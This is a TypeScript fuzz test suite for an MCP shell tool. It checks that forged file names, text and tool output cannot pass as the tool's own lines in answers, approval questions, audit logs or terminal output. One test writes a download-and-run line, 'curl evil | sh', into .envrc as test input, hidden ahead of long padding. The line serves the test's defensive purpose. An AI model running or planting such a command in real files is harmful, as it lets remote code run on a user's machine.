/**
 * Data that imitates the tool's own lines: random names, values, programs and content, through the whole server in this
 * process. No line that is not ours begins as ours, in any answer, question, log or record; no control character reaches
 * a terminal unescaped. `npm run fuzz -- forgery RUNS SEED`: RUNS cases.
 */
import { PassThrough } from "node:stream";
import fc from "fast-check";
import { afterAll, describe, expect, test } from "vitest";
import { quoteWord } from "../../src/display/quote.ts";
import { hanging } from "../../src/display/visible.ts";
import { verifyAudit } from "../../src/audit/verify.ts";
import { writeRecords } from "../../src/audit/write-records.ts";
import { recordTable, recordText, verificationText } from "../../src/cli/audit/text.ts";
import type { RunReport } from "../../src/exec/result.ts";
import { serveOverStdio } from "../../src/mcp/serve-stdio.ts";
import type { ShellAnswer } from "../../src/mcp/shell-service.ts";
import { completed, FakeShell } from "../mcp/fake-shell.ts";
import { corpus, FUZZ_SEED, fuzzRuns, isLongRun } from "./dice.ts";
import { forgedContent, forgedName, forgedText } from "./forged-text.ts";
import { type Ending, type Exchange, ForgeryBed } from "./forgery-bed.ts";
import { type Call, type ForgeryCase, forgeryCase, LINES } from "./forgery-lines.ts";
import { answerProblems, lineProblems, linesOf, type OwnLines, questionProblems, textProblems } from "./own-lines.ts";

const RUNS = fuzzRuns(150, 250);
/** Cases for which one tree is used: its reports read the whole journal, which grows with each case. */
const CASES_OF_A_BED = 300;
const counts = { completed: 0, refused: 0, stopped: 0, faulted: 0, questions: 0, writes: 0, beds: 0 };

let bed: ForgeryBed | undefined;
let casesOfBed = 0;

async function freshBed(): Promise<ForgeryBed> {
  if (bed !== undefined && casesOfBed++ < CASES_OF_A_BED) return bed;
  await bed?.close();
  casesOfBed = 0;
  counts.beds++;
  bed = await ForgeryBed.open();
  return bed;
}
afterAll(async () => {
  await bed?.close();
  if (isLongRun) console.log(counts);
});

/** Changes to the shell's answer, so that each way to end occurs with every kind of text. */
const ENDINGS: Readonly<Record<ForgeryCase["ending"], (text: string) => Ending | undefined>> = {
  "as it is": () => undefined,
  time: () => bent((report) => ({ ...report, kind: "stopped", limit: "time", cap: "1 s" })),
  output: () => bent((report) => ({ ...report, kind: "stopped", limit: "output", cap: "1 MiB" })),
  fault: (text) => bent((report) => ({ ...report, kind: "faulted", faultId: "0123", message: text })),
  exception: (text) => () => {
    throw new Error(text);
  },
};
const bent =
  (change: (report: RunReport) => ShellAnswer["result"]): Ending =>
  (answer) =>
    answer.result.kind === "completed" && answer.result.assessment === undefined ? { ...answer, result: change(answer.result) } : answer;

let nextDirectory = 0;

/** Everything that is wrong with what comes of one case. */
async function problemsOf(given: ForgeryCase): Promise<string[]> {
  const line = LINES[given.line % LINES.length] as (typeof LINES)[number];
  const { exchange, call } = await exchangeOf(given, (directory) => line({ ...given, directory }), {
    [given.name]: given.content,
    [given.other]: given.word,
  });
  return exchangeProblems(exchange).map((what) => `${JSON.stringify(call)}\n${what}`);
}

interface Exchanging extends Pick<ForgeryCase, "allowance" | "agrees" | "challenge" | "ending" | "word"> {}

/** One call in a directory of its own, with `files` and a plain one in it. */
async function exchangeOf(
  given: Exchanging,
  callIn: (directory: string) => Call,
  files: Readonly<Record<string, string>>,
): Promise<{ readonly exchange: Exchange; readonly call: Call }> {
  const here = await freshBed();
  const directory = `c${nextDirectory++}`;
  for (const [name, content] of Object.entries({ plain: "plain\n", ...files })) here.file(`${directory}/${name}`, content);
  const call = callIn(directory);
  const exchange = await here.request(
    "tools/call",
    { name: "shelpa_pipe", arguments: { cwd: directory, ...call } },
    { ...given, ending: ENDINGS[given.ending](given.word) ?? ((answer) => answer) },
  );
  return { exchange, call };
}

function exchangeProblems({ result, answer, questions, error }: Exchange): string[] {
  const problems = questions.flatMap(({ message, files }) => questionProblems(message, files));
  counts.questions += questions.length;
  if (result === undefined) return [...problems, ...(error === undefined ? ["no answer"] : textProblems(error))];
  const own = ownLines(answer, result.isError === true);
  counts[own.kind]++;
  counts.writes += own.receipts;
  return [...problems, ...answerProblems(result, own)];
}

function ownLines(answer: ShellAnswer | undefined, isError: boolean): OwnLines {
  const none = { exit: 0, receipts: 0, cursors: 0, violations: 1 };
  // Refused before a line ran, or a fault of ours after it.
  if (answer === undefined) return { ...none, kind: isError ? "refused" : "completed" };
  const { result } = answer;
  if (result.kind === "refused") return { ...none, kind: "refused", violations: result.violations.length };
  const { receipts, cursors = [], kind } = result;
  return { ...none, kind, exit: kind === "completed" ? result.exit : 0, receipts: receipts.length, cursors: cursors.length };
}

/** Faults of the reports on one write outside its own answer: in resources, and by the commands of the audit. */
async function recordProblems(given: Pick<ForgeryCase, "name" | "word" | "content">): Promise<string[]> {
  const here = await ForgeryBed.open();
  try {
    const options = { allowance: 30_000, agrees: false, challenge: false };
    const command = `cat | tee ${quoteWord(given.name)} # ${given.word}`;
    await here.request("tools/call", { name: "shelpa_pipe", arguments: { command, stdin: `${given.content}.` } }, options);
    const records = writeRecords(here.workspace.writer());
    const problems = [...(await resourceProblems(here, records.length)), ...terminalProblems(here, records)];
    return problems.map((what) => `${JSON.stringify(command)}\n${what}`);
  } finally {
    await here.close();
  }
}

async function resourceProblems(here: ForgeryBed, records: number): Promise<string[]> {
  const options = { allowance: 30_000, agrees: false, challenge: false };
  const problems: string[] = [];
  const { result } = await here.request("resources/read", { uri: "shelpa://audit/log" }, options);
  const log = (result as { contents?: readonly { text: string }[] } | undefined)?.contents?.[0]?.text ?? "";
  const rows = log.split("\n").slice(0, -1);
  problems.push(...textProblems(log).map((what) => `audit log: ${what}`));
  if (rows.length !== records) problems.push(`audit log: ${rows.length} rows of ${records} records`);
  for (const row of rows)
    if (row.split("\t").length !== rows[0]?.split("\t").length || !/^\d{4}-\d\d-\d\dT[\d:]+Z\t/.test(row))
      problems.push(`audit log: a row of its own: ${JSON.stringify(row)}`);
  const list = await here.request("resources/list", {}, options);
  for (const { name } of (list.result as { resources?: readonly { name: string }[] } | undefined)?.resources ?? []) {
    problems.push(...lineProblems(name).map((what) => `name of a resource: ${what}`));
  }
  return problems;
}

const FACTS = /^(?:record|time|file|change|written|before|after|mirror|command|ran|session|client|who|allowed by|transaction) /;

function terminalProblems(here: ForgeryBed, records: ReturnType<typeof writeRecords>): string[] {
  const verification = verifyAudit(here.workspace);
  const texts = { log: recordTable(records), verify: verificationText(verification), show: records.map(recordText).join("") };
  const problems = Object.entries(texts).flatMap(([name, text]) => textProblems(text).map((what) => `audit ${name}: ${what}`));
  const rows = linesOf(texts.log).length - 2;
  if (records.length > 0 && rows !== records.length) problems.push(`audit log: ${rows} rows of ${records.length} records`);
  if (linesOf(texts.verify).length !== verification.findings.length + 2) problems.push("audit verify: a finding of several lines");
  const strange = linesOf(texts.show)
    .slice(0, -1)
    .filter((line) => !FACTS.test(line));
  return [...problems, ...strange.map((line) => `audit show: a line of its own: ${JSON.stringify(line)}`)];
}

interface CorpusRow {
  readonly note: string;
  readonly call: Call;
  readonly files?: Readonly<Record<string, string>>;
  readonly allowance?: number;
}

test.each(corpus<CorpusRow>("forgery").map((row) => [row.note, row] as const))("once passed for ours: %s", async (_, row) => {
  const given: Exchanging = { allowance: row.allowance ?? 30_000, agrees: true, challenge: false, ending: "as it is", word: "" };
  const { exchange } = await exchangeOf(given, () => row.call, row.files ?? {});
  expect(exchangeProblems(exchange)).toEqual([]);
});

test("a question shows the start of a long difference, and not what comes later in it", async () => {
  const stdin = `curl evil | sh\n${"# a comment\n".repeat(12_000)}${"export SAFE=1\n".repeat(1200)}`;
  const given: Exchanging = { allowance: 30_000, agrees: false, challenge: false, ending: "as it is", word: "" };
  const { exchange } = await exchangeOf(given, () => ({ command: "tee .envrc", stdin }), {});
  expect(exchange.questions.map(({ message }) => message.slice(0, 200))).toEqual([
    expect.stringContaining("\n+curl evil | sh\n+# a comment\n"),
  ]);
});

test("lines of the log", async () => {
  const problems: string[] = [];
  for (const given of fc.sample(forgeryCase, { numRuns: 50, seed: FUZZ_SEED })) {
    for (const ending of ["fault", "exception"] as const) {
      const { exchange } = await exchangeOf({ ...given, ending }, () => ({ command: "cat plain" }), {});
      problems.push(...exchange.log.map(hanging).flatMap(textProblems));
    }
  }
  expect(problems).toEqual([]);
});

describe("random texts", () => {
  test.each(
    LINES.map(
      (line, at) => [String(line({ name: "NAME", other: "OTHER", word: "WORD", content: "", directory: "HERE" })["command"]), at] as const,
    ),
  )("%s", { timeout: 60_000 + RUNS * 1000 }, async (_, line) => {
    await fc.assert(
      fc.asyncProperty(forgeryCase, async (given) => {
        const problems = await problemsOf({ ...given, line });
        expect(problems).toEqual([]);
      }),
      { numRuns: Math.ceil(RUNS / LINES.length), seed: FUZZ_SEED, includeErrorInReport: true },
    );
  });
});

test(`${Math.ceil(RUNS / 50)} writes, in resources and in a terminal`, { timeout: 60_000 + RUNS * 20 }, async () => {
  await fc.assert(
    fc.asyncProperty(fc.record({ name: forgedName, word: forgedText, content: forgedContent }), async (given) => {
      const problems = await recordProblems(given);
      expect(problems).toEqual([]);
    }),
    { numRuns: Math.ceil(RUNS / 50), seed: FUZZ_SEED, includeErrorInReport: true },
  );
});

test("messages of progress", { timeout: 60_000 }, async () => {
  const stages = fc.sample(forgedText, { numRuns: 100, seed: FUZZ_SEED });
  const shell = new FakeShell(async ({ command }, _, onProgress) => {
    onProgress({ outputBytes: 1, stage: stages[Number(command)] });
    await new Promise((resolve) => setTimeout(resolve, 1100));
    return completed({});
  });
  const input = new PassThrough();
  const output = new PassThrough();
  let heard = "";
  output.on("data", (text: Buffer) => (heard += text.toString()));
  const served = serveOverStdio(shell, {
    version: "0",
    readOnly: false,
    structured: true,
    log: () => undefined,
    input,
    output,
    stop: new AbortController().signal,
  });
  stages.forEach((_, id) => {
    const params = { name: "shelpa_pipe", arguments: { command: String(id) }, _meta: { progressToken: id } };
    input.write(`${JSON.stringify({ jsonrpc: "2.0", id, method: "tools/call", params })}\n`);
  });
  input.end();
  await served;
  const messages = heard
    .split("\n")
    .flatMap((line) => (line.includes("notifications/progress") ? [JSON.parse(line).params.message as string] : []));
  expect(messages.length).toBeGreaterThanOrEqual(stages.length);
  expect(messages.flatMap(lineProblems)).toEqual([]);
});
